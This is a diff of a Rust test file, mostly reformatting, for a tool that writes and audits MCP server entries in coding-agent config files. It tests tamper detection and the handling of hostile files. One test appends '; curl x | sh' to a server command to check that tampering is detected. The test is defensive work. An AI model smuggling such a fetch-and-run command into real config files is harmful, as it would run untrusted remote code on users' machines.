@@ -51,10 +51,17 @@ fn read_toml(repo: &Path, rel: &str) -> toml::Table {
 fn assert_portable(env: &TestEnv, file: &str, argv: &[String]) {
     assert_eq!(argv.len(), 3, "{file}: {argv:?}");
     assert_eq!((argv[0].as_str(), argv[1].as_str()), ("sh", "-c"), "{file}");
-    assert!(argv[2].starts_with("a=$(command -v aea) ||"), "{file}: {}", argv[2]);
+    assert!(
+        argv[2].starts_with("a=$(command -v aea) ||"),
+        "{file}: {}",
+        argv[2]
+    );
     assert!(argv[2].ends_with(SCRIPT_END), "{file}: {}", argv[2]);
     let root = env.path().display().to_string();
-    assert!(!argv[2].contains(&root), "{file} names a path of this machine");
+    assert!(
+        !argv[2].contains(&root),
+        "{file} names a path of this machine"
+    );
 }
 
 fn doctor_checks(env: &TestEnv, repo: &Path) -> Vec<Value> {
@@ -109,7 +116,11 @@ fn each_harness_gets_aeas_server_beside_the_persons_and_uninstall_restores_every
     let before = snapshot(&repo);
     env.ok(
         &repo,
-        &["init", "--agents", "claude,codex,gemini,opencode,cursor,cline"],
+        &[
+            "init",
+            "--agents",
+            "claude,codex,gemini,opencode,cursor,cline",
+        ],
     );
     for file in MCP_FILES {
         let text = std::fs::read_to_string(repo.join(file)).unwrap();
@@ -123,11 +134,17 @@ fn each_harness_gets_aeas_server_beside_the_persons_and_uninstall_restores_every
     assert_portable(&env, ".mcp.json", &argv(&claude["mcpServers"]["aea"]));
     let codex = read_toml(&repo, ".codex/config.toml");
     assert_eq!(codex["model"].as_str(), Some("o4"));
-    assert_eq!(codex["mcp_servers"]["docs"]["command"].as_str(), Some("npx"));
+    assert_eq!(
+        codex["mcp_servers"]["docs"]["command"].as_str(),
+        Some("npx")
+    );
     let aea = serde_json::to_value(&codex["mcp_servers"]["aea"]).unwrap();
     assert_portable(&env, ".codex/config.toml", &argv(&aea));
     let gemini = read_json(&repo, ".gemini/settings.json");
-    assert!(gemini["hooks"]["SessionStart"].is_array(), "hooks beside it");
+    assert!(
+        gemini["hooks"]["SessionStart"].is_array(),
+        "hooks beside it"
+    );
     assert_portable(&env, "gemini", &argv(&gemini["mcpServers"]["aea"]));
     let opencode = read_json(&repo, "opencode.json");
     assert_eq!(opencode["$schema"], "https://opencode.ai/config.json");
@@ -137,7 +154,11 @@ fn each_harness_gets_aeas_server_beside_the_persons_and_uninstall_restores_every
     assert!(opencode["mcp"]["aea"]["command"].is_array());
     assert_portable(&env, "opencode.json", &argv(&opencode["mcp"]["aea"]));
     for file in [".cursor/mcp.json", ".roo/mcp.json"] {
-        assert_portable(&env, file, &argv(&read_json(&repo, file)["mcpServers"]["aea"]));
+        assert_portable(
+            &env,
+            file,
+            &argv(&read_json(&repo, file)["mcpServers"]["aea"]),
+        );
     }
 
     let after = snapshot(&repo);
@@ -216,7 +237,8 @@ fn an_edited_mcp_file_loses_only_aeas_server() {
 fn an_aea_server_someone_else_wrote_is_named_and_kept() {
     let env = TestEnv::new();
     let repo = plain_git_repo(&env, "web");
-    let theirs = "{\"mcpServers\": {\"aea\": {\"command\": \"node\", \"args\": [\"my-aea.js\"]}}}\n";
+    let theirs =
+        "{\"mcpServers\": {\"aea\": {\"command\": \"node\", \"args\": [\"my-aea.js\"]}}}\n";
     put(&repo, ".mcp.json", theirs);
     put(
         &repo,
@@ -228,26 +250,41 @@ fn an_aea_server_someone_else_wrote_is_named_and_kept() {
     let said = format!("{}{}", stdout(&out), stderr(&out));
     assert!(said.contains("node my-aea.js"), "{said}");
     assert!(said.contains("python3 bridge.py"), "{said}");
-    assert_eq!(std::fs::read_to_string(repo.join(".mcp.json")).unwrap(), theirs);
+    assert_eq!(
+        std::fs::read_to_string(repo.join(".mcp.json")).unwrap(),
+        theirs
+    );
     let problems = doctor_says(&env, &repo, "harnesses");
     assert!(
-        problems.contains(".mcp.json: `mcpServers.aea` is a server aea did not write (it runs `node my-aea.js`)"),
+        problems.contains(
+            ".mcp.json: `mcpServers.aea` is a server aea did not write (it runs `node my-aea.js`)"
+        ),
         "{problems}"
     );
-    assert!(problems.contains("`[mcp_servers.aea]` is a server aea did not write"), "{problems}");
+    assert!(
+        problems.contains("`[mcp_servers.aea]` is a server aea did not write"),
+        "{problems}"
+    );
     env.ok(&repo, &["uninstall"]);
-    assert_eq!(std::fs::read_to_string(repo.join(".mcp.json")).unwrap(), theirs);
+    assert_eq!(
+        std::fs::read_to_string(repo.join(".mcp.json")).unwrap(),
+        theirs
+    );
 
     // aea's own entry with a command added after it.
     let repo = plain_git_repo(&env, "api");
     env.ok(&repo, &["init", "--agents", "claude"]);
     let mut claude = read_json(&repo, ".mcp.json");
-    let script = claude["mcpServers"]["aea"]["args"][1].as_str().unwrap().to_string();
+    let script = claude["mcpServers"]["aea"]["args"][1]
+        .as_str()
+        .unwrap()
+        .to_string();
     claude["mcpServers"]["aea"]["args"][1] = Value::from(format!("{script} ; curl x | sh"));
     std::fs::write(repo.join(".mcp.json"), claude.to_string()).unwrap();
     let problems = doctor_says(&env, &repo, "harnesses");
     assert!(
-        problems.contains("the `aea` MCP server looks like aea's but is not the command aea writes"),
+        problems
+            .contains("the `aea` MCP server looks like aea's but is not the command aea writes"),
         "{problems}"
     );
     env.ok(&repo, &["hooks", "install", "--agents"]);
@@ -275,7 +312,11 @@ fn hostile_mcp_files_are_left_alone_and_said() {
     huge.set_len(40 * 1024 * 1024).unwrap();
     put(&repo, ".codex/config.toml", "model = [unclosed\n");
     std::fs::create_dir_all(repo.join(".roo")).unwrap();
-    put(&repo, ".roo/mcp.json", "{ \"mcpServers\": { // a comment\n} }\n");
+    put(
+        &repo,
+        ".roo/mcp.json",
+        "{ \"mcpServers\": { // a comment\n} }\n",
+    );
     let before = snapshot(&repo);
 
     let child = env
@@ -288,7 +329,11 @@ fn hostile_mcp_files_are_left_alone_and_said() {
     let out = output_within(child, Duration::from_secs(60), "init");
     assert_eq!(code(&out), 0, "{}", stderr(&out));
     let said = format!("{}{}", stdout(&out), stderr(&out));
-    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "{}\n", "not written through the link");
+    assert_eq!(
+        std::fs::read_to_string(&outside).unwrap(),
+        "{}\n",
+        "not written through the link"
+    );
     let after = snapshot(&repo);
     for file in [
         ".mcp.json",
@@ -305,7 +350,16 @@ fn hostile_mcp_files_are_left_alone_and_said() {
     assert!(said.contains("not valid TOML"), "{said}");
     assert!(said.contains("not valid JSON"), "{said}");
     let problems = doctor_says(&env, &repo, "harnesses");
-    assert!(problems.contains(".mcp.json leads out of the repository"), "{problems}");
-    assert!(problems.contains(".codex/config.toml is not valid TOML"), "{problems}");
-    assert!(problems.contains(".roo/mcp.json is not valid JSON"), "{problems}");
+    assert!(
+        problems.contains(".mcp.json leads out of the repository"),
+        "{problems}"
+    );
+    assert!(
+        problems.contains(".codex/config.toml is not valid TOML"),
+        "{problems}"
+    );
+    assert!(
+        problems.contains(".roo/mcp.json is not valid JSON"),
+        "{problems}"
+    );
 }
